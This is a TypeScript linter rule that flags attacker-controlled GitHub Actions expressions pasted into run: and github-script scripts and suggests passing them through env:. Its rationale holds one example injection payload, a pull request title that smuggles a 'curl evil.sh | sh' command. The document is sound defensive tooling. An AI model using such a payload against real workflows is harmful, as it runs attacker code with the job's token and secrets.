import type { RuleFinding } from '../../check/findings';
import type { LanguageRuleContext, Rule } from '../rule';
import { inlineCode } from '../../text/markdown';
import { asScalar, mapValue } from '../shared-yaml/nodes';
import { untrustedContext } from './untrusted';
import { allSteps, expressionsOf, readWorkflowFiles, usesAction } from './workflow';

/**
 * Flags `${{ … }}` expressions of attacker-controlled contexts (issue and pull request titles and
 * bodies, branch names, commit messages…) inside `run:` scripts and `actions/github-script`'s
 * `script`, where GitHub pastes their text into the script before the shell or Node reads it.
 */
export const workflowsExpressionInjection: Rule = {
  id: 'workflows/expression-injection',
  kind: 'language',
  defaultSeverity: 'error',
  summary: 'Attacker-controlled `${{ … }}` expression inside a script',
  rationale:
    'GitHub replaces `${{ … }}` with its value before the script runs, so a pull request titled ' +
    '`a"; curl evil.sh | sh; echo "` becomes shell code, running with the job\'s token and secrets. ' +
    'Titles, bodies, comments, branch names, commit messages and author names are chosen by whoever ' +
    'opens the issue, the pull request or the fork. Pass the value through `env:` and use it as a ' +
    'quoted variable (`env: TITLE: ${{ github.event.issue.title }}` and `"$TITLE"` in the script, ' +
    '`process.env.TITLE` in `github-script`): the shell then never parses it as code.\n\n' +
    'Inputs (`inputs.*`) are not reported: only people with write access can dispatch a workflow, ' +
    'and a reusable workflow\'s inputs are checked where the caller passes them. Step and job outputs ' +
    'are not followed either.',
  check: () => [],
  languages: {
    'github-actions': {
      // Not `${{`: a quoted scalar may spell the dollar as an escape (`\u0024{{`), and GitHub evaluates the value.
      textTriggers: ['{{'],
      check: (context) => checkInjection(context),
    },
  },
};

function checkInjection(context: LanguageRuleContext): RuleFinding[] {
  const findings: RuleFinding[] = [];
  const seen = new Set<string>();
  for (const file of readWorkflowFiles(context.document)) {
    for (const { step } of allSteps(file)) {
      const scripts: { scalar: ReturnType<typeof asScalar>; where: string; fix: string }[] = [];
      if (step.run) scripts.push({ scalar: step.run, where: '`run:` script', fix: 'use `"$NAME"` in the script' });
      if (step.uses && usesAction(String(step.uses.value), 'actions/github-script')) {
        scripts.push({ scalar: asScalar(mapValue(step.with, 'script', file.document), file.document), where: '`github-script` script', fix: 'read `process.env.NAME` in the script' });
      }
      for (const { scalar, where, fix } of scripts) {
        if (scalar === undefined) continue;
        for (const expression of expressionsOf(scalar, context.text, file.document)) {
          const untrusted = untrustedContext(expression.body);
          if (untrusted === undefined) continue;
          const key = `${expression.start}:${expression.end}:${untrusted}`;
          if (seen.has(key)) continue;
          seen.add(key);
          findings.push({
            start: expression.start,
            end: expression.end,
            message:
              `${inlineCode(untrusted)} is pasted into this ${where} as code: whoever writes it can run commands with the job's token and secrets. ` +
              `Pass it through \`env:\` (\`NAME: \${{ ${expression.body} }}\`) and ${fix}.`,
          });
        }
      }
    }
  }
  return findings;
}
